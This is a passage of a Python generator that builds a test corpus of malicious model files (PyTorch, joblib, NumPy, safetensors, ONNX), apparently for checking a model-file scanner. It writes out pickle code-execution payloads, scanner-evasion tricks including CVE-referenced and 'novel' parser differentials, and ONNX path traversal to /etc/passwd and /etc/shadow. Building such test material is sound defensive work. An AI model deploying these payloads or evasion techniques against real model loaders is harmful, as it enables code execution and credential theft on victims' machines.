    top: str = "archive",
    extra: Sequence[tuple[str, bytes]] = (),
    compression: int = zipfile.ZIP_STORED,
    comment: bytes = b"",
    force_zip64: bool = False,
) -> bytes:
    """A PyTorch zip checkpoint whose ``data.pkl`` is ``data_pkl``."""
    return zip_bytes(
        _torch_zip_members(data_pkl, top=top, extra=extra),
        compression=compression,
        comment=comment,
        force_zip64=force_zip64,
    )


def _state_dict_pickle_with_marker(marker: str) -> tuple[bytes, bytes]:
    """A real state dict's zip bytes and its data.pkl, with one value replaced by a marker."""
    torch = _torch()
    sd: dict[str, Any] = OrderedDict(
        [("fc.weight", torch.ones(3, 4)), ("fc.bias", torch.zeros(3)), ("note", marker)]
    )
    raw = torch_save(sd)
    data_pkl = next(d for n, d in zip_members(raw) if n.endswith("/data.pkl"))
    return raw, data_pkl


def _pytorch_zip(c: Corpus) -> None:
    cls = "pytorch-zip"
    payload = pk(system_call("global"), 2)
    c.bad(
        "pytorch/payload_archive.pt",
        _torch_zip(payload),
        cls,
        "PyTorch zip whose data.pkl is os.system('true')",
        "classic",
    )
    for top, note in (
        ("model_final_v2", "an arbitrary top folder name"),
        (".hidden", "a dot-folder"),
        ("mod\u00e8le", "a non-ASCII top folder"),
        ("a" * 120, "a 120-character top folder"),
    ):
        safe = "".join(ch if ch.isalnum() else "_" for ch in top)[:20]
        c.bad(
            f"pytorch/payload_top_{safe}.pt",
            _torch_zip(payload, top=top),
            cls,
            f"payload data.pkl under {note}",
        )
    for ext in ("bin", "pth", "ckpt"):
        c.bad(
            f"pytorch/pytorch_model_payload.{ext}",
            _torch_zip(payload),
            cls,
            f"PyTorch zip with the .{ext} extension",
            "CVE-2025-10155",
        )
    c.bad(
        "pytorch/payload_in_extra_member.pt",
        _torch_zip(pickle.dumps(OrderedDict(), protocol=2), extra=[("extra/hook.pkl", payload)]),
        cls,
        "benign data.pkl, payload in another pickle member (archive/extra/hook.pkl)",
    )
    c.bad(
        "pytorch/payload_in_data_record.pt",
        _torch_zip(pickle.dumps(OrderedDict(), protocol=2), extra=[("data/1", payload)]),
        cls,
        "payload stored as a tensor data record (archive/data/1) named without .pkl",
    )
    c.bad(
        "pytorch/payload_in_constants_pkl.pt",
        _torch_zip(pickle.dumps(OrderedDict(), protocol=2), extra=[("constants.pkl", payload)]),
        cls,
        "payload in constants.pkl (TorchScript archives unpickle it)",
    )
    c.bad(
        "pytorch/payload_deflated.pt",
        _torch_zip(payload, compression=zipfile.ZIP_DEFLATED),
        cls,
        "data.pkl stored DEFLATE-compressed (torch writes STORED)",
    )
    c.bad(
        "pytorch/payload_zip64.pt",
        _torch_zip(payload, force_zip64=True),
        cls,
        "members written with zip64 extra fields",
    )
    c.bad(
        "pytorch/payload_zip_comment.pt",
        _torch_zip(payload, comment=b"PK\x05\x06 decoy"),
        cls,
        "zip comment holding a fake end-of-central-directory signature",
    )
    raw, data_pkl = _state_dict_pickle_with_marker("BASTION_MARKER_1")
    spliced = replace_marker(data_pkl, "BASTION_MARKER_1", system_call("global"))
    c.bad(
        "pytorch/real_state_dict_spliced.pt",
        zip_bytes([(n, spliced if n.endswith("/data.pkl") else d) for n, d in zip_members(raw)]),
        cls,
        "a real state dict with os.system('true') spliced in as one of its values",
        "fickling --inject; JFrog malicious HF models (2024)",
    )
    c.bad(
        "pytorch/real_state_dict_injected_first.pt",
        zip_bytes(
            [
                (n, inject_after_proto(d, system_call("global")) if n.endswith("/data.pkl") else d)
                for n, d in zip_members(raw)
            ]
        ),
        cls,
        "payload runs first, then the real state dict loads normally",
        "fickling --inject",
    )
    c.bad(
        "pytorch/rebuild_from_type_v2.pt",
        _torch_zip(
            pk(
                call(
                    g("torch._tensor", "_rebuild_from_type_v2"),
                    Raw(g("posix", "system")),
                    Raw(g("torch", "Tensor")),
                    (CMD,),
                    {},
                ),
                2,
            )
        ),
        cls,
        "torch._tensor._rebuild_from_type_v2(posix.system, ...) calls its first argument",
        "novel",
    )
    c.bad(
        "pytorch/import_dotted_name.pt",
        _torch_zip(
            pk(call(call(g("torch._utils", "_import_dotted_name"), "subprocess.getoutput"), CMD), 2)
        ),
        cls,
        "torch._utils._import_dotted_name('subprocess.getoutput')",
        "novel",
    )
    c.bad(
        "pytorch/ordereddict_setstate.pt",
        _torch_zip(
            pk(
                call(g("collections", "OrderedDict"))
                + enc({"__setstate__": Raw(g("os", "system"))})
                + BUILD
                + enc(CMD)
                + BUILD,
                2,
            )
        ),
        cls,
        "allow-listed OrderedDict with a planted __setstate__",
    )
    c.bad(
        "pytorch/nullifai_broken_data_pkl.pt",
        zip_bytes(
            [
                (
                    n,
                    inject_after_proto(d, system_call("global"))[:-30]
                    if n.endswith("/data.pkl")
                    else d,
                )
                for n, d in zip_members(raw)
            ]
        ),
        cls,
        "payload at the start of data.pkl, the rest truncated so loading fails after it ran",
        "ReversingLabs nullifAI (2025)",
    )
    # Header tricks that break Python's zipfile but not PyTorch's reader.
    base = _torch_zip_members(payload)
    members = [RawMember(n.encode(), d) for n, d in base]
    bad_crc = [
        dataclasses.replace(m, crc=0xDEADBEEF) if m.name.endswith(b"data.pkl") else m
        for m in members
    ]
    c.bad(
        "pytorch/crc_mismatch.pt",
        raw_zip(bad_crc),
        cls,
        "wrong CRC-32 on data.pkl: zipfile raises, torch does not check",
        "CVE-2025-10156",
    )
    flag = [
        dataclasses.replace(m, flags=0x20) if m.name.endswith(b"data.pkl") else m for m in members
    ]
    c.bad(
        "pytorch/flag_bits_patched_data.pt",
        raw_zip(flag),
        cls,
        "general-purpose flag 0x20 (compressed patched data) on data.pkl",
        "CVE-2025-1945 (picklescan GHSA-w8jq-xcqf-f792)",
    )
    mism = [
        dataclasses.replace(m, local_name=m.name[:-1] + b"X") if m.name.endswith(b"data.pkl") else m
        for m in members
    ]
    c.bad(
        "pytorch/local_central_name_mismatch.pt",
        raw_zip(mism),
        cls,
        "local header names archive/data.pkX, central directory archive/data.pkl",
        "CVE-2025-1944 (picklescan GHSA-7q5r-7gvp-wc82)",
    )
    benign_pkl = pickle.dumps(OrderedDict(), protocol=2)
    dup_last = [
        (f"archive/{r}", benign_pkl if r == "data.pkl" else d)
        for r, d in ((n.split("/", 1)[1], d) for n, d in base)
    ] + [("archive/data.pkl", payload)]
    c.bad(
        "pytorch/duplicate_data_pkl_payload_last.pt",
        zip_bytes(dup_last),
        cls,
        "two archive/data.pkl members: benign first, payload second (zipfile reads the last)",
    )
    dup_first = [("archive/data.pkl", payload)] + [
        (f"archive/{r}", benign_pkl if r == "data.pkl" else d)
        for r, d in ((n.split("/", 1)[1], d) for n, d in base)
    ]
    c.bad(
        "pytorch/duplicate_data_pkl_payload_first.pt",
        zip_bytes(dup_first),
        cls,
        "two archive/data.pkl members: payload first (miniz reads the first), benign second",
    )
    c.bad(
        "pytorch/prepended_junk.pt",
        raw_zip(members, prefix=b"\x00" * 64 + b"junk" * 16),
        cls,
        "zip preceded by 128 junk bytes (offsets shifted)",
    )
    c.bad(
        "pytorch/upper_case_data_pkl.pt",
        zip_bytes([(n.replace("data.pkl", "DATA.PKL"), d) for n, d in base]),
        cls,
        "the pickle member is named archive/DATA.PKL (case-insensitive lookups still find it)",
    )


# ---- PyTorch legacy (non-zip and tar) ---------------------------------------------------------


def _split_pickles(data: bytes, count: int) -> tuple[list[bytes], bytes]:
    """Split the first ``count`` pickles off ``data``; return them and the rest."""
    import pickletools

    parts = []
    pos = 0
    for _ in range(count):
        end = None
        for op, _arg, p in pickletools.genops(data[pos:]):
            if op.name == "STOP":
                assert p is not None
                end = pos + p + 1
                break
        assert end is not None
        parts.append(data[pos:end])
        pos = end
    return parts, data[pos:]


def _pytorch_legacy(c: Corpus) -> None:
    cls = "pytorch-legacy"
    torch = _torch()
    legacy = torch_save({"fc.weight": torch.ones(2, 2)}, legacy=True)
    parts, rest = _split_pickles(legacy, 5)
    payload = pk(system_call("global"), 2)
    names = ["magic number", "protocol version", "sys_info", "main object", "storage keys"]
    for idx in (0, 2, 3, 4):
        swapped = list(parts)
        swapped[idx] = payload if idx != 3 else inject_after_proto(parts[3], system_call("global"))
        c.bad(
            f"legacy/payload_in_{names[idx].replace(' ', '_')}.pt",
            b"".join(swapped) + rest,
            cls,
            f"legacy (non-zip) checkpoint with the payload in the {names[idx]} pickle",
            "picklescan scan_pytorch magic-number bypass note" if idx == 0 else "novel",
        )
    sys_info = parts[2]
    tar_base = {
        "sys_info": sys_info,
        "pickle": pickle.dumps(OrderedDict(), protocol=2),
        "storages": pickle.dumps(0, protocol=2),
        "tensors": pickle.dumps(0, protocol=2),
    }
    for member in ("pickle", "storages", "tensors"):
        m = dict(tar_base)
        m[member] = payload
        c.bad(
            f"legacy/tar_payload_in_{member}.pt",
            tar_bytes(list(m.items())),
            cls,
            f"old tar checkpoint layout with the payload in the '{member}' member",
        )


# ---- joblib -----------------------------------------------------------------------------------


def _joblib_dump(obj: Any, compress_arg: Any = 0, protocol: int | None = None) -> bytes:
    import joblib

    buf = io.BytesIO()
    joblib.dump(obj, buf, compress=compress_arg, protocol=protocol)
    data = buf.getvalue()
    if data[:2] == b"\x1f\x8b":  # gzip header: zero the MTIME field for reproducibility
        data = data[:4] + b"\x00\x00\x00\x00" + data[8:]
    return data


def xxh32(data: bytes, seed: int = 0) -> int:
    """xxHash32 (for LZ4 frame header checksums)."""
    p1, p2, p3, p4, p5 = 2654435761, 2246822519, 3266489917, 668265263, 374761393
    mask = 0xFFFFFFFF

    def rotl(x: int, r: int) -> int:
        return ((x << r) | (x >> (32 - r))) & mask

    n = len(data)
    i = 0
    if n >= 16:
        v = [(seed + p1 + p2) & mask, (seed + p2) & mask, seed & mask, (seed - p1) & mask]
        while i <= n - 16:
            for k in range(4):
                lane = int.from_bytes(data[i + 4 * k : i + 4 * k + 4], "little")
                v[k] = (rotl((v[k] + lane * p2) & mask, 13) * p1) & mask
            i += 16
        h = (rotl(v[0], 1) + rotl(v[1], 7) + rotl(v[2], 12) + rotl(v[3], 18)) & mask
    else:
        h = (seed + p5) & mask
    h = (h + n) & mask
    while i + 4 <= n:
        h = (rotl((h + int.from_bytes(data[i : i + 4], "little") * p3) & mask, 17) * p4) & mask
        i += 4
    while i < n:
        h = (rotl((h + data[i] * p5) & mask, 11) * p1) & mask
        i += 1
    h ^= h >> 15
    h = (h * p2) & mask
    h ^= h >> 13
    h = (h * p3) & mask
    h ^= h >> 16
    return h


def lz4_frame_stored(data: bytes) -> bytes:
    """An LZ4 frame whose blocks are stored uncompressed (valid for any LZ4 frame reader)."""
    descriptor = bytes([0x60, 0x40])  # version 1, independent blocks; 64 KiB blocks
    out = bytearray(b"\x04\x22\x4d\x18" + descriptor + bytes([(xxh32(descriptor) >> 8) & 0xFF]))
    for i in range(0, len(data), 65536):
        block = data[i : i + 65536]
        out += struct.pack("<I", len(block) | 0x80000000) + block
    out += b"\x00\x00\x00\x00"
    return bytes(out)


def joblib_dtype_desync(payload: bytes, n: int = 8) -> bytes:
    """A joblib stream that a scanner trusting the dtype state's ``elsize`` parses differently.

    The array's dtype is ``numpy.dtype('f8')`` with a ``BUILD`` state claiming ``elsize=4``.
    NumPy ignores ``elsize`` for built-in types, so joblib reads ``8*n`` array bytes; a parser
    that believes the state reads ``4*n`` and then sees a BINBYTES literal that swallows the
    payload joblib executes. Both views end with the same tail and neither has trailing data.
    """
    import numpy as np

    base = _joblib_dump({"w": np.zeros(n), "tag": "BASTION_MARKER_3"}, protocol=2)
    i = base.index(b"NNNJ\xff\xff\xff\xff")
    base = base[: i + 3] + b"J\x04\x00\x00\x00" + base[i + 8 :]
    j = base.index(b"numpy_array_alignment_bytes")
    k = base.index(b"ub", j) + 2
    start = k + 1 + base[k]
    tail = base[start + 8 * n :]
    assert tail[:1] == b"X", tail[:16]
    end = start + 8 * n + len(payload)
    literal = end - (start + 4 * n + 5)
    region = bytes(4 * n) + b"B" + struct.pack("<I", literal) + bytes(4 * n - 5) + payload
    return base[:start] + region + POP + tail


def _joblib(c: Corpus) -> None:
    import numpy as np

    cls = "joblib"
    plain = pk(system_call("stack"), 4)
    c.bad("joblib/payload_plain.joblib", plain, cls, "uncompressed joblib file = a pickle")
    for codec in ("zlib", "gz", "bz2", "lzma", "xz"):
        c.bad(
            f"joblib/payload_{codec}.joblib",
            compress(plain, codec),
            cls,
            f"joblib {codec}-compressed pickle payload (joblib picks the codec by magic bytes)",
        )
    spliced = replace_marker(
        _joblib_dump(
            {"coef": np.arange(64, dtype=np.float64), "tag": "BASTION_MARKER_2"}, protocol=2
        ),
        "BASTION_MARKER_2",
        system_call("global"),
    )
    c.bad(
        "joblib/payload_after_array_bytes.joblib",
        spliced,
        cls,
        "real joblib dump: the payload comes after a NumpyArrayWrapper's raw array bytes, "
        "where a linear opcode parser has already stopped",
        "novel",
    )
    c.bad(
        "joblib/payload_after_array_bytes_xz.joblib",
        compress(spliced, "xz"),
        cls,
        "the same, xz-compressed",
    )
    obj_arr = _joblib_dump({"labels": np.array(["a", "b"], dtype=object)}, protocol=2)
    # joblib pickles object arrays as a nested (protocol 5) pickle inside the stream.
    inner_start = obj_arr.index(b"\x80\x05", 2)
    inner_parts, _ = _split_pickles(obj_arr[inner_start:], 1)
    inner = inner_parts[0]
    evil_inner = inject_after_proto(inner, system_call("global"))
    c.bad(
        "joblib/payload_in_object_array_subpickle.joblib",
        obj_arr[:inner_start] + evil_inner + obj_arr[inner_start + len(inner) :],
        cls,
        "payload in the nested pickle joblib writes for an object array",
        "novel",
    )
    from sklearn.linear_model import LogisticRegression

    model = LogisticRegression().fit(np.array([[0.0], [1.0], [2.0], [3.0]]), [0, 0, 1, 1])
    trojan = inject_before_stop(_joblib_dump(model, protocol=2), system_call("global"))
    c.bad(
        "joblib/trojan_logistic_regression_gz.joblib",
        compress(trojan, "gz"),
        cls,
        "a fitted LogisticRegression with a payload injected before STOP, gzip-compressed",
        "fickling --inject",
    )
    desync_payload = b"cposix\nsystem\n(V" + CMD.encode() + b"\ntR"
    c.bad(
        "joblib/dtype_elsize_desync.joblib",
        joblib_dtype_desync(desync_payload),
        cls,
        "dtype('f8') with a BUILD state claiming elsize=4: joblib reads 8 bytes per item, a "
        "scanner trusting elsize reads 4 and parses a different opcode stream",
        "novel (parser differential)",
    )
    c.bad(
        "joblib/dtype_elsize_desync_gz.joblib",
        compress(joblib_dtype_desync(desync_payload, 16), "gz"),
        cls,
        "the same differential, 16 items, gzip-compressed",
        "novel (parser differential)",
    )
    c.bad(
        "joblib/payload_lz4.joblib",
        lz4_frame_stored(plain),
        cls,
        "joblib lz4-compressed pickle payload (LZ4 frame, joblib's fifth compressor)",
        "joblib compressor list",
    )


# ---- NumPy ------------------------------------------------------------------------------------


def _numpy(c: Corpus) -> None:
    cls = "numpy"
    payload = pk(system_call("global"), 3)
    hdr = {"descr": "|O", "fortran_order": False, "shape": (2,)}
    c.bad(
        "numpy/object_array_v1.npy",
        npy_bytes(hdr, payload),
        cls,
        "object-dtype .npy (v1.0 header): np.load(allow_pickle=True) unpickles the body",
        "picklescan scan_numpy",
    )
    c.bad(
        "numpy/object_array_v2.npy", npy_bytes(hdr, payload, (2, 0)), cls, "the same, v2.0 header"
    )
    c.bad(
        "numpy/object_array_v3.npy",
        npy_bytes(hdr, payload, (3, 0)),
        cls,
        "the same, v3.0 (UTF-8) header",
    )
    c.bad(
        "numpy/object_array_fortran.npy",
        npy_bytes({"descr": "|O", "fortran_order": True, "shape": (2, 2)}, payload),
        cls,
        "object array, Fortran order",
    )
    c.bad(
        "numpy/structured_object_field.npy",
        npy_bytes(
            {"descr": [("a", "<i4"), ("b", "|O")], "fortran_order": False, "shape": (1,)}, payload
        ),
        cls,
        "structured dtype with one object field (dtype.hasobject)",
    )
    c.bad(
        "numpy/subarray_object.npy",
        npy_bytes({"descr": [("x", "|O", (2,))], "fortran_order": False, "shape": (1,)}, payload),
        cls,
        "object sub-array field",
    )
    c.bad(
        "numpy/raw_pickle_named_npy.npy",
        pk(system_call("stack")),
        cls,
        "a bare pickle named .npy: np.load falls back to pickle.load when allow_pickle=True",
    )
    npz_member = npy_bytes(hdr, payload)
    c.bad(
        "numpy/npz_object_member.npz",
        zip_bytes(
            [
                (
                    "weights.npy",
                    npy_bytes({"descr": "<f4", "fortran_order": False, "shape": (2,)}, b"\x00" * 8),
                ),
                ("labels.npy", npz_member),
            ]
        ),
        cls,
        ".npz with one malicious object-array member",
    )
    c.bad(
        "numpy/npz_object_member_deflated.npz",
        zip_bytes([("labels.npy", npz_member)], compression=zipfile.ZIP_DEFLATED),
        cls,
        ".npz (savez_compressed layout) with a malicious object-array member",
    )
    c.bad(
        "numpy/npz_raw_pickle_member.npz",
        zip_bytes([("arr_0.npy", pk(system_call("stack")))]),
        cls,
        ".npz whose member is a bare pickle",
    )
    for name, descr in (
        ("descr_object_word", "object"),
        ("descr_nested_struct", [("a", [("b", "|O")])]),
        ("descr_subarray_tuple", ("O", (2,))),
    ):
        c.bad(
            f"numpy/{name}.npy",
            npy_bytes({"descr": descr, "fortran_order": False, "shape": (1,)}, payload),
            cls,
            f"object dtype spelt {descr!r} in the header",
        )


# ---- safetensors ------------------------------------------------------------------------------


def _safetensors(c: Corpus) -> None:
    cls = "safetensors"
    t = {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]}
    body = bytes(16)
    cases: list[tuple[str, bytes, str]] = [
        (
            "header_size_past_eof",
            safetensors_bytes({"w": t}, body, size=1 << 20),
            "header length field larger than the file",
        ),
        (
            "header_size_over_cap",
            safetensors_bytes({"w": t}, body, size=1 << 40),
            "header length 1 TiB (over the 100 MB cap)",
        ),
        ("header_size_zero", safetensors_bytes({"w": t}, body, size=0), "header length 0"),
        (
            "header_json_truncated",
            safetensors_bytes(b'{"w": {"dtype": "F32", "shape": [2, ', body),
            "header is cut-off JSON",
        ),
        ("header_json_array", safetensors_bytes(b"[1, 2, 3]", body), "header is a JSON array"),
        (
            "header_duplicate_keys",
            safetensors_bytes(
                b'{"w":{"dtype":"F32","shape":[2,2],"data_offsets":[0,16]},'
                b'"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}',
                body,
            ),
            "the same tensor name twice (parsers disagree on which wins)",
        ),
        (
            "header_invalid_utf8",
            safetensors_bytes(
                b'{"\xff\xfe":{"dtype":"F32","shape":[2,2],"data_offsets":[0,16]}}', body
            ),
            "header is not UTF-8",
        ),
        (
            "header_leading_space",
            safetensors_bytes(b' {"w":{"dtype":"F32","shape":[2,2],"data_offsets":[0,16]}}', body),
            "header does not start with '{'",
        ),
        (
            "header_nul_padding",
            safetensors_bytes(json.dumps({"w": t}).encode() + b"\x00" * 6, body),
            "header padded with NUL bytes instead of spaces",
        ),
        (
            "offsets_out_of_bounds",
            safetensors_bytes({"w": {**t, "data_offsets": [0, 4096]}}, body),
            "data_offsets end past the data section",
        ),
        (
            "offsets_overlap",
            safetensors_bytes(
                {
                    "a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
                    "b": {"dtype": "F32", "shape": [4], "data_offsets": [8, 24]},
                },
                bytes(24),
            ),
            "two tensors share bytes",
        ),
        (
            "offsets_gap",
            safetensors_bytes(
                {
                    "a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
                    "b": {"dtype": "F32", "shape": [2], "data_offsets": [16, 24]},
                },
                bytes(24),
            ),
            "a hole between tensors (bytes no tensor owns)",
        ),
        (
            "offsets_reversed",
            safetensors_bytes({"w": {**t, "data_offsets": [16, 0]}}, body),
            "begin offset after end offset",
        ),
        (
            "offsets_negative",
            safetensors_bytes({"w": {**t, "data_offsets": [-16, 0]}}, body),
            "negative offsets",
        ),
        (
            "dtype_unknown",
            safetensors_bytes({"w": {**t, "dtype": "PICKLE"}}, body),
            "unknown dtype",
        ),
        (
            "shape_mismatch",
            safetensors_bytes({"w": {**t, "shape": [3, 3]}}, body),
            "shape 3x3 F32 (36 bytes) over a 16-byte range",
        ),
        (
            "shape_overflow",
            safetensors_bytes({"w": {**t, "shape": [2**32, 2**32, 2**32]}}, body),
            "shape whose element count overflows 64 bits",
        ),
        (
            "shape_negative",
            safetensors_bytes({"w": {**t, "shape": [-1, 4]}}, body),
            "negative dimension",
        ),
        (
            "shape_float",
            safetensors_bytes({"w": {**t, "shape": [2.0, 2]}}, body),
            "non-integer dimension",
        ),
        (
            "metadata_not_strings",
            safetensors_bytes({"__metadata__": {"format": {"nested": [1, 2]}}, "w": t}, body),
            "__metadata__ values that are not strings",
        ),
        (
            "trailing_pickle",
            safetensors_bytes({"w": t}, body) + pk(system_call("stack")),
            "valid tensors followed by a pickle no offset covers",
        ),
    ]
    for name, data, technique in cases:
        c.bad(
            f"safetensors/{name}.safetensors",
            data,
            cls,
            technique,
            "safetensors format spec (header validation)",
        )


# ---- ONNX -------------------------------------------------------------------------------------


def _onnx_graph(name: str = "mlp", w_name: str = "W") -> Any:
    import numpy as np
    from onnx import TensorProto, helper, numpy_helper

    weight = numpy_helper.from_array((np.arange(12, dtype=np.float32) / 10).reshape(4, 3), w_name)
    bias = numpy_helper.from_array(np.zeros(3, dtype=np.float32), "B")
    x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4])
    y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 3])
    nodes = [
        helper.make_node("MatMul", ["x", w_name], ["h"]),
        helper.make_node("Add", ["h", "B"], ["z"]),
        helper.make_node("Relu", ["z"], ["y"]),
    ]
    return helper.make_graph(nodes, name, [x], [y], [weight, bias])


def _onnx_model(graph: Any, extra_opsets: Sequence[tuple[str, int]] = ()) -> Any:
    from onnx import helper

    opsets = [helper.make_opsetid("", 17)] + [helper.make_opsetid(d, v) for d, v in extra_opsets]
    model = helper.make_model(graph, opset_imports=opsets, producer_name="bastion-corpus")
    model.ir_version = 8
    return model


def _make_external(tensor: Any, location: str, length: int = 48) -> None:
    from onnx import TensorProto

    del tensor.external_data[:]
    for key, value in (("location", location), ("offset", "0"), ("length", str(length))):
        entry = tensor.external_data.add()
        entry.key = key
        entry.value = value
    tensor.data_location = TensorProto.EXTERNAL
    tensor.ClearField("raw_data")


def _external_constant(location: str) -> Any:
    import numpy as np
    from onnx import numpy_helper

    tensor = numpy_helper.from_array(np.zeros(3, dtype=np.float32), "leak")
    _make_external(tensor, location, 12)
    return tensor


def _onnx(c: Corpus) -> None:
    import numpy as np
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    cls = "onnx"
    outside = c.path("onnx_outside/secret.bin")
    outside.write_bytes(bytes(48))
    c.record(
        "onnx_outside/secret.bin", cls, AUX, "a file outside every model folder (escape target)"
    )
    for folder, location, technique, ref in (
        (
            "ext_absolute",
            "/etc/passwd",
            "external data at an absolute path",
            "CVE-2022-25882 class",
        ),
        (
            "ext_dotdot",
            "../../onnx_outside/secret.bin",
            "external data path with '..' leaving the folder",
            "CVE-2022-25882 / CVE-2024-27318",
        ),
        (
            "ext_inner_dotdot",
            "weights/../../../onnx_outside/secret.bin",
            "'..' after a harmless-looking subfolder",
            "CVE-2024-27318",
        ),
        (
            "ext_backslash",
            "..\\..\\onnx_outside\\secret.bin",
            "Windows-style '..\\' traversal",
            "CVE-2024-27318",
        ),
        ("ext_windows_absolute", "C:\\Windows\\win.ini", "Windows absolute path", "novel"),
    ):
        graph = _onnx_graph()
        _make_external(graph.initializer[0], location)
        c.bad(
            f"onnx/{folder}/model.onnx", _onnx_model(graph).SerializeToString(), cls, technique, ref
        )
    # Symlink escapes: a file symlink and a directory symlink inside the model folder.
    graph = _onnx_graph()
    _make_external(graph.initializer[0], "weights.bin")
    c.bad(
        "onnx/ext_symlink_file/model.onnx",
        _onnx_model(graph).SerializeToString(),
        cls,
        "external data file is a symlink pointing outside the model folder",
        "CVE-2024-27319 class",
    )
    link = c.path("onnx/ext_symlink_file/weights.bin")
    link.symlink_to(Path("../../onnx_outside/secret.bin"))
    c.aux(
        "onnx/ext_symlink_file/weights.bin", None, cls, "symlink to ../../onnx_outside/secret.bin"
    )
    graph = _onnx_graph()
    _make_external(graph.initializer[0], "shared/secret.bin")
    c.bad(
        "onnx/ext_symlink_dir/model.onnx",
        _onnx_model(graph).SerializeToString(),
        cls,
        "external data under a symlinked directory that points outside",
        "CVE-2024-27319 class",
    )
    c.path("onnx/ext_symlink_dir/shared").symlink_to(Path("../../onnx_outside"))
    c.aux("onnx/ext_symlink_dir/shared", None, cls, "directory symlink to ../../onnx_outside")
    # External data hidden outside graph.initializer.
    graph = _onnx_graph()
    const = numpy_helper.from_array(np.zeros(3, dtype=np.float32), "k")
    _make_external(const, "/etc/shadow", 12)
    graph.node.append(helper.make_node("Constant", [], ["unused_k"], value=const))
    c.bad(
        "onnx/ext_in_node_attribute/model.onnx",
        _onnx_model(graph).SerializeToString(),
        cls,
        "external data in a Constant node's tensor attribute",
        "novel",
    )
    then_g = helper.make_graph(
        [helper.make_node("Identity", ["T"], ["o"])],
        "then",
        [],
        [helper.make_tensor_value_info("o", TensorProto.FLOAT, [3])],
        [numpy_helper.from_array(np.zeros(3, dtype=np.float32), "T")],
    )
    _make_external(then_g.initializer[0], "../../../onnx_outside/secret.bin", 12)
    else_g = helper.make_graph(
        [helper.make_node("Identity", ["E"], ["o2"])],
        "else",
        [],
        [helper.make_tensor_value_info("o2", TensorProto.FLOAT, [3])],
        [numpy_helper.from_array(np.ones(3, dtype=np.float32), "E")],
    )
    cond = helper.make_tensor_value_info("cond", TensorProto.BOOL, [])
    out = helper.make_tensor_value_info("out", TensorProto.FLOAT, [3])
    if_graph = helper.make_graph(
        [helper.make_node("If", ["cond"], ["out"], then_branch=then_g, else_branch=else_g)],
        "branchy",
        [cond],
        [out],
    )
    c.bad(
        "onnx/ext_in_subgraph/model.onnx",
        _onnx_model(if_graph).SerializeToString(),
        cls,
        "external data with '..' in an If branch's initializer",
        "novel",
    )
    graph = _onnx_graph()
    values = numpy_helper.from_array(np.ones(2, dtype=np.float32), "sp_values")
    _make_external(values, "../../onnx_outside/secret.bin", 8)
    indices = numpy_helper.from_array(np.array([0, 3], dtype=np.int64), "sp_indices")
    graph.sparse_initializer.append(helper.make_sparse_tensor(values, indices, [4]))
    c.bad(
        "onnx/ext_in_sparse_initializer/model.onnx",
        _onnx_model(graph).SerializeToString(),
        cls,
        "external data in a sparse initializer's values",
        "novel",
    )
    # Custom operator domains (need a native custom-op library to run).
    graph = _onnx_graph()
    graph.node.append(helper.make_node("Backdoor", ["y"], ["y2"], domain="com.attacker.ops"))
    graph.output[0].name = "y2"
    c.bad(
        "onnx/custom_domain/model.onnx",
        _onnx_model(graph, [("com.attacker.ops", 1)]).SerializeToString(),
        cls,
        "node in a custom operator domain (com.attacker.ops)",
        "issue brief",
    )
    body = helper.make_graph(
        [
            helper.make_node("Identity", ["cond_in"], ["cond_out"]),
            helper.make_node("Exfil", ["v_in"], ["v_out"], domain="ai.attacker"),
        ],
        "loop_body",
        [
            helper.make_tensor_value_info("iter", TensorProto.INT64, []),
            helper.make_tensor_value_info("cond_in", TensorProto.BOOL, []),
            helper.make_tensor_value_info("v_in", TensorProto.FLOAT, [3]),
        ],
        [
            helper.make_tensor_value_info("cond_out", TensorProto.BOOL, []),
            helper.make_tensor_value_info("v_out", TensorProto.FLOAT, [3]),
        ],
    )
    loop_graph = helper.make_graph(
        [helper.make_node("Loop", ["M", "cond", "v0"], ["v_final"], body=body)],
        "looped",
        [
            helper.make_tensor_value_info("M", TensorProto.INT64, []),
            cond,
            helper.make_tensor_value_info("v0", TensorProto.FLOAT, [3]),
        ],
        [helper.make_tensor_value_info("v_final", TensorProto.FLOAT, [3])],
    )
    c.bad(
        "onnx/custom_domain_in_loop_body/model.onnx",
        _onnx_model(loop_graph, [("ai.attacker", 1)]).SerializeToString(),
        cls,
        "custom-domain node hidden in a Loop body subgraph",
        "novel",
    )
    graph = _onnx_graph()
    graph.node[2].domain = "org.pytorch.custom"
    c.bad(
        "onnx/custom_domain_no_opset_import/model.onnx",
        _onnx_model(graph).SerializeToString(),
        cls,
        "standard op name (Relu) re-homed in an undeclared custom domain",
        "novel",
    )
    for order, first, second in (
        ("last", "weights.bin", "/etc/passwd"),
        ("first", "/etc/passwd", "weights.bin"),
    ):
        graph = _onnx_graph()
        _make_external(graph.initializer[0], first)
        dup = graph.initializer[0].external_data.add()
        dup.key = "location"
        dup.value = second
        c.bad(
            f"onnx/ext_duplicate_location_{order}/model.onnx",
            _onnx_model(graph).SerializeToString(),
            cls,
            f"two 'location' keys; the escaping one is {order} (onnx's Python loader keeps the "
            "last, other readers may keep the first)",
            "novel",
        )
    # Places a graph walker can forget: model-local functions and training_info.
    graph = _onnx_graph()
    fn = helper.make_function(
        "local.fn",
        "Wrap",
        ["a"],
        ["b"],
        [helper.make_node("Backdoor", ["a"], ["b"], domain="com.attacker.ops")],
        [helper.make_opsetid("", 17), helper.make_opsetid("com.attacker.ops", 1)],
    )
    graph.node.append(helper.make_node("Wrap", ["y"], ["y2"], domain="local.fn"))
    graph.output[0].name = "y2"
    model = _onnx_model(graph, [("local.fn", 1), ("com.attacker.ops", 1)])
    model.functions.append(fn)
    c.bad(
        "onnx/custom_domain_in_function/model.onnx",
        model.SerializeToString(),
        cls,
        "custom-domain op hidden inside a model-local function body",
        "novel",
    )
    graph = _onnx_graph()
    fn = helper.make_function(
        "local.fn",
        "Leak",
        [],
        ["k"],
        [helper.make_node("Constant", [], ["k"], value=_external_constant("/etc/shadow"))],
        [helper.make_opsetid("", 17)],
    )
    model = _onnx_model(graph, [("local.fn", 1)])
    model.functions.append(fn)
    c.bad(
        "onnx/ext_in_function_constant/model.onnx",
        model.SerializeToString(),
        cls,
        "external data at an absolute path inside a model-local function's Constant",
        "novel",
    )
    graph = _onnx_graph()
    model = _onnx_model(graph)
    init = helper.make_graph(
